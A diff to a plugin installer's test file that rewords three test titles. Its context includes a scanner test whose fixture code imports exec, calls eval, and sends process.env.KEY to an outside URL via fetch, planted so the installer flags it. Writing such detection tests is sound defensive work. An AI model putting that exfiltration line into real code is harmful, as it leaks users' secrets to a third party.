@@ -99,7 +99,7 @@ test("a memory plugin gets the slot, an allowlist gets the name, and both are gi
   expect(place.installed()).toEqual([]);
 });
 
-test("uninstall asks, tells what it would do, keeps files that it is told to keep and folders that are linked", async () => {
+test("uninstall asks, tells what it would do, keeps files that it is asked to keep and folders that are linked", async () => {
   const place = makeInstallPlace();
   const folder = place.write("mine", pluginFiles("voice"));
   const { uninstallPlugin } = await loadInstall();
@@ -136,7 +136,7 @@ test("modes that let others write are taken away", async () => {
   expect(statSync(join(place.extensions, "voice")).mode & 0o022).toBe(0);
 });
 
-test("what stands out in the code is told with its place", async () => {
+test("what stands out in the code is reported with its location", async () => {
   const place = makeInstallPlace();
   const code = `import { exec } from "node:child_process";\n\neval("1");\nfetch("https://example.org/" + process.env.KEY);\nexport default function register() {}\n`;
   place.write("mine", { ...pluginFiles("voice", { code }), ".npmrc": "ignore-scripts=false\n" });
@@ -223,7 +223,7 @@ test("when the configuration cannot be written everything is as before", async (
   expect(readFileSync(join(place.extensions, "voice/package.json"), "utf8")).toContain("1.0.0");
 });
 
-test("two installs of the same plugin at once: one is done, the other is told", async () => {
+test("two installs of the same plugin at once: one is done, the other is rejected", async () => {
   const place = makeInstallPlace();
   place.write("mine", pluginFiles("voice"));
   const results = await Promise.allSettled([place.install("./mine"), place.install("./mine")]);
